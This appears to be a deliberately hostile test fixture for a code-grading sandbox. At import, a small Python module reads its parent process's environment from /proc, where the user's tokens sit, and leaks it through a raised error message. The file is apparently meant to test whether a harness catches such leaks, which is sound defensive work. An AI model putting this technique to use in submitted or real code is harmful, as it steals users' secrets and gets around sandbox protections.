"""Hostile: read the server's environment (the worker's own is scrubbed; its parent's holds the user's tokens) and
smuggle it out through the report."""

import os

from good import reference as _kernel

with open(f"/proc/{os.getppid()}/environ", "rb") as f:
    raise RuntimeError("stolen: " + f.read().decode(errors="replace"))


def reference(x, y):
    return _kernel(x, y)
